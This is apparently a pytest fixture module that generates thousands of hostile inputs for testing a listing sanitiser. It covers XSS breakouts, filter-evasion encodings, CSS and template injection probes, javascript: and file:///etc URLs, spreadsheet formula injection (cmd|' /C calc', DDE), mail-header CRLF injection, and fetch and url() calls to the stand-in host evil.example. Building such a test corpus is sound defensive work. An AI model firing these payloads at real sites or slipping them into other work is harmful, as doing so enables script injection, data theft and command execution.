"""Hostile words as a seller could write them: contexts that are broken out of, times tricks of spelling, times what is then done.

What could act bears the mark, by which it is known. `ALL` are some thousands, all different; `SOME` is a cut in which every row of every
table stands, for what is looked at one by one in each run (the soaks take all).
"""

from __future__ import annotations

import html
from base64 import b64encode
from collections.abc import Callable, Iterable
from itertools import cycle, product
from urllib.parse import quote

import pytest

MARK = "PWN7"
HOST = "evil.example"

ACTIONS = (f"alert('{MARK}')", f"window.{MARK}=1", f"fetch(`//{HOST}/{MARK}`)")
"""A dialog, a trace, a request: each is seen by the browser tests."""

# What leaves the place where words of a listing may stand: text, a quoted attribute, raw text, a comment, CDATA, foreign content.
BREAKS = (
    "", '">', "'>", "`>", "</title>", "</style>", "</textarea>", "</script>", "</noscript>", "</template>", "</select>", "</svg>", "</math>", "</xmp>", "</iframe>", "</mark>",
    "-->", "--!>", "]]>", "?>", "*/</style>", "';</script>", "\x00", "\u2028",
)  # fmt: skip
ELEMENTS = (
    "<script>{}</script>", '<img src=x onerror="{}">', '<svg onload="{}">', "<svg><script>{}</script></svg>", '<svg><animate onbegin="{}" attributeName=x dur=1s></svg>',
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=1 onerror={} /></svg>#x\"></svg>", '<svg><a xlink:href="javascript:{}"><text>x</text></a></svg>',
    '<math><mtext><img src=x onerror="{}"></mtext></math>', '<iframe srcdoc="<script>{}</script>">', '<a href="javascript:{}">x</a>', '<object data="javascript:{}">', '<embed src="javascript:{}">',
    "<style>@import '//evil.example/PWN7';</style><i onclick=\"{}\">", '<style>*{{background:url(//evil.example/PWN7)}}</style><b onmouseover="{}">x</b>',
    '<base href=//evil.example/><a onfocus="{}">', '<meta http-equiv=refresh content="0;url=javascript:{}">', '<form action=//evil.example/PWN7><button formaction="javascript:{}">x</button></form>',
    '<link rel=stylesheet href=//evil.example/PWN7 onload="{}">', '<video poster=//evil.example/PWN7><source onerror="{}">', '<details open ontoggle="{}">x', '<input autofocus onfocus="{}">',
    '<body onload="{}">', '<template><script>{}</script></template><p onclick="{}">', '<noscript><p title="</noscript><img src=x onerror=\'{}\'>">', '<xss style=animation-name:x onanimationstart="{}">',
    "<!--><script>{}</script>-->", "<![CDATA[><script>{}</script>]]>", "<?xml-stylesheet href='javascript:{}'?><script>{}</script>",
)  # fmt: skip
# Spellings that a filter may not know and a browser does, or that something on the way may undo.
TRICKS: dict[str, Callable[[str], str]] = {
    "mixed case": lambda s: "".join(c.upper() if n % 2 else c for n, c in enumerate(s)),
    "slashes for blanks": lambda s: s.replace(" ", "/"),
    "line feeds for blanks": lambda s: s.replace(" ", "\n"),
    "form feeds for blanks": lambda s: s.replace(" ", "\x0c"),
    "no quotes": lambda s: s.replace('"', ""),
    "NUL in the name": lambda s: s.replace("<", "<\x00", 1),
    "twice nested": lambda s: s.replace("<", "<<", 1),
    "left open": lambda s: s.rstrip(">"),
    "entities": lambda s: html.escape(s),
    "numeric entities": lambda s: "".join(f"&#{ord(c)};" if c in "<>\"'" else c for c in s),
    "hex entities without end": lambda s: "".join(f"&#x{ord(c):07x}" if c in "<>\"'" else c for c in s),
    "entities twice": lambda s: html.escape(html.escape(s)),
    "per cent": lambda s: quote(s, safe=""),
    "per cent twice": lambda s: quote(quote(s, safe=""), safe=""),
    "backslash u": lambda s: s.replace("<", "\\u003c").replace(">", "\\u003e"),
    "backslash x": lambda s: s.replace("<", "\\x3c").replace(">", "\\x3e"),
    "full width": lambda s: s.replace("<", "＜").replace(">", "＞"),
    "small forms": lambda s: s.replace("<", "﹤").replace(">", "﹥"),
    "UTF-7": lambda s: s.replace("<", "+ADw-").replace(">", "+AD4-"),
    "overlong bytes as text": lambda s: s.replace("<", "\u00c0\u00bc").replace(">", "\u00c0\u00be"),
    "turned right to left": lambda s: f"\u202e{s}\u2066",
    "zero width": lambda s: s.replace("<", "<\u200b", 1),
}  # fmt: skip


def _filled(shape: str, action: str) -> str:
    return shape.replace("{{", "{").replace("}}", "}").replace("{}", action)


ELEMENT = tuple(b + _filled(e, a) for b, e, a in product(BREAKS, ELEMENTS, ACTIONS))
SPELT = tuple(trick(_filled(e, a)) for trick, e, a in product(TRICKS.values(), ELEMENTS, ACTIONS[:1]))

HANDLERS = ("onmouseover=", "autofocus onfocus=", "onerror=", "onanimationstart=", "style=animation-name:x onload=", "formaction=javascript:", "srcdoc=", "href=javascript:", "xlink:href=javascript:", "style=x:expression(")  # fmt: skip
ATTRIBUTE = tuple(
    f"H100{leave}{handler}{action}{end}"
    for leave, handler, action, end in product(
        ('" ', "' ", "` ", '"/', " ", "\t"), HANDLERS, ACTIONS[:2], (" x=", "//")
    )
)

SCRIPT = tuple(
    f"{leave}{action}{end}"
    for leave, action, end in product(
        ("';", '";', "`;", "\\';", '\\";', "${", "`+", "*/", "\n", "\u2028", "\u2029", "</script><script>", "'-", '"-', ")}]};"), ACTIONS, ("//", "<!--", "/*", "}", ";'", ';"')
    )
)  # fmt: skip

STYLE = tuple(
    f"{leave}{rule}"
    for leave, rule in product(
        ("", "'}", '"}', "*/}", ");", "x;"),
        ("*{background:url(//evil.example/PWN7)}", "@import url(//evil.example/PWN7);", "x:expression(alert('PWN7'))", "behavior:url(//evil.example/PWN7)", "-moz-binding:url(//evil.example/PWN7#x)",
         "@font-face{font-family:x;src:url(//evil.example/PWN7)}", "\\75rl(//evil.example/PWN7)", "content:'PWN7';position:fixed;inset:0"),
    )
)  # fmt: skip

COMMENT = tuple(
    f"{o}{a}{c}"
    for o, a, c in product(
        ("<!--", "<!-->", "<!--->", "<!---!>", "<!", "<?", "</ ", "<![CDATA[", "/*", "#"),
        ACTIONS,
        ("-->", "--!>", ""),
    )
)

_EVALUATED = (
    "7*7",
    "config",
    "''.__class__.__mro__",
    "request.application",
    "constructor.constructor('alert(1)')()",
    "lipsum|attr('x')",
    "range(9)",
    "x",
)
_BRACES = ("{{%s}}", "{{{%s}}}", "${%s}", "#{%s}", "{%% for i in %s %%}", "{%%%s%%}", "<%%= %s %%>", "[[%s]]", "@(%s)", "*{%s}", "{#%s#}", "%%(%s)s", "{0.%s}", "$%s", "{{-%s-}}")  # fmt: skip
TEMPLATES = tuple((brace % inside) + MARK for brace, inside in product(_BRACES, _EVALUATED))

_SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "\x01javascript:{}", "java\tscript:{}", "java\nscript:{}", "javascript&colon;{}", "&#106;avascript:{}", "javascript%3A{}", "javascript://%0a{}",
    "vbscript:{}", "data:text/html,<script>{}</script>", "data:text/html;base64,UFdONw=={}", "data:image/svg+xml,<svg onload={}>", "view-source:javascript:{}", "blob:{}", "feed:javascript:{}", "jar:javascript:{}!/",
    "file:///etc/{}",
)  # fmt: skip
_HOSTS = (
    "//evil.example/PWN7",
    "\\\\evil.example\\PWN7",
    "/\\evil.example/PWN7",
    "https:evil.example/PWN7",
    "http://evil.example/PWN7.png",
    "http://127.0.0.1@evil.example/PWN7",
    "///evil.example/PWN7",
)
_AFTER = ('https://x/" onclick=PWN7', "https://x/' onclick='PWN7", "https://x/><script>PWN7</script>", "https://x/\r\nPWN7", "https://x/ PWN7 onclick=PWN7", "https://x/`PWN7`", "https://x/PWN7)[y](javascript:1")  # fmt: skip
ADDRESSES = (
    *(scheme.replace("{}", action) for scheme, action in product(_SCHEMES, ACTIONS)),
    *_HOSTS,
    *_AFTER,
)

_LINKS = ("[x]({})", "![x]({})", "[x](<{}>)", "[x](\t{} 'PWN7')", "<{}>", "[x]: {}", "[![x]({})](//evil.example)", "&#91;x&#93;({})", "\\[x]({})", "[x][y]\n\n[y]: {}", "<a\nhref={}>x</a>", "|{}|x|\n|---|---|")  # fmt: skip
_TARGETS = (
    "javascript:PWN7",
    "JAVASCRIPT:PWN7",
    "//evil.example/PWN7",
    "https://evil.example/PWN7",
    "data:text/html,PWN7",
    "javascript&colon;PWN7",
    "www.evil.example/PWN7",
)
_BLOCKS = (
    "`PWN7`", "```\nPWN7\n```", "~~~\nPWN7", "# PWN7", "\n# PWN7", "\n\n<b>PWN7</b>", "| PWN7 | x |\n|---|---|", "**PWN7**", "~~PWN7~~", "- [ ] PWN7", "1. PWN7", "> PWN7", "    PWN7", "PWN7\n===", "PWN7  \n---",
    "@everyone PWN7", "@here PWN7", "<!channel> PWN7", "<!here|PWN7>", "<@U123> PWN7", "<#C1|PWN7>", "||PWN7||", "***PWN7", "___PWN7___", ":PWN7:", "PWN7\u202egnp.exe", "https://evil.example/PWN7",
)  # fmt: skip
MARKDOWN = (*(link.replace("{}", target) for link, target in product(_LINKS, _TARGETS)), *_BLOCKS)

_CALLS = (
    "1+1", 'HYPERLINK("//evil.example/PWN7","x")', "cmd|' /C calc'!A0", 'IMPORTXML("//evil.example/PWN7","//a")', 'IMPORTDATA("//evil.example/PWN7")', 'DDE("cmd";"/C calc";"PWN7")',
    "SUM(1+1)*cmd|' /C PWN7'!A0", 'WEBSERVICE("//evil.example/PWN7")', 'IMAGE("//evil.example/PWN7")', "MSEXCEL|'\\..\\PWN7'!A0", "A1",
)  # fmt: skip
_STARTS = (
    "=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", '"=', "＝", "＋", "－", "＠", "\u00a0=", "\ufeff=", "\u200b=", "\u3000=", ";=", ",=", "\x00=", "|=", "%=", "=-", "-+", "\t@", 'x",=', 'x";=', "x\r\n=", "\x0b=",
)  # fmt: skip
FORMULAS = tuple(start + call for start, call in product(_STARTS, _CALLS))

_ENDS = (
    "\r\n",
    "\n",
    "\r",
    "\r\n\r\n",
    "\n\n",
    "\u2028",
    "\u2029",
    "\u0085",
    "\x0b",
    "\x0c",
    "\x1e",
    "%0d%0a",
    "\\r\\n",
    "\r\n ",
    "\r\n\t",
    "\x00\r\n",
    "=0D=0A",
    "=?utf-8?q?=0d=0a?=",
    "嘊",
)
_LINES = (
    "Bcc: evil@evil.example", "Subject: PWN7", "Content-Type: text/html", "<script>PWN7</script>", "From: evil@evil.example", "To: evil@evil.example", ".", "MAIL FROM:<evil@evil.example>", "X-PWN7: 1",
    "Content-Transfer-Encoding: 8bit", "--PWN7\r\nContent-Type: text/html\r\n\r\n<script>PWN7</script>",
)  # fmt: skip
_ENCODED = (
    lambda line: f"=?utf-8?q?{quote(line, safe='').replace('%', '=')}?=",
    lambda line: f"=?utf-8?b?{b64encode(line.encode()).decode()}?=",
)
HEADERS = (
    *(f"H100{end}{line}" for end, line in product(_ENDS, _LINES)),
    *(f"H100 {encoded(end + line)}" for encoded, end, line in product(_ENCODED, ("\r\n", "\n"), _LINES)),
)

TABLES: dict[str, tuple[str, ...]] = {
    "element": ELEMENT, "spelling": SPELT, "attribute": ATTRIBUTE, "script": SCRIPT, "style": STYLE, "comment": COMMENT, "template": TEMPLATES, "address": ADDRESSES, "Markdown": MARKDOWN,
    "spreadsheet": FORMULAS, "mail header": HEADERS,
}  # fmt: skip
HTML = tuple(dict.fromkeys(ELEMENT + SPELT + ATTRIBUTE + COMMENT))


def cut(words: Iterable[str], one_in: int) -> tuple[str, ...]:
    """Every so-and-so-manyth of the words, the first among them. `one_in` shares no factor with the sizes of the tables, so that all rows come up."""
    return tuple(words)[::one_in]


ALL = tuple(dict.fromkeys(word for table in TABLES.values() for word in table))
SOME = tuple(
    dict.fromkeys(word for table in TABLES.values() for word in cut(table, 11 if len(table) > 500 else 5))
)

PAYLOADS = pytest.mark.parametrize(
    "payloads", [pytest.param(SOME, id="some"), pytest.param(ALL, id="all", marks=pytest.mark.soak)]
)
"""A test that takes `payloads`: the cut in every run, all of them in a soak."""


def cards(words: tuple[str, ...], fields: tuple[str, ...], each: int, turn: int = 0) -> list[dict[str, str]]:
    """The words dealt to the fields of as few listings as hold them all, `each` in a field; every turn deals each word to another field."""
    dealt = cycle(words[at : at + each] for at in range(0, len(words), each))
    needed = -(-len(words) // (each * len(fields)))
    order = fields[turn % len(fields) :] + fields[: turn % len(fields)]
    return [{field: " ".join(next(dealt)) for field in order} for _ in range(needed)]
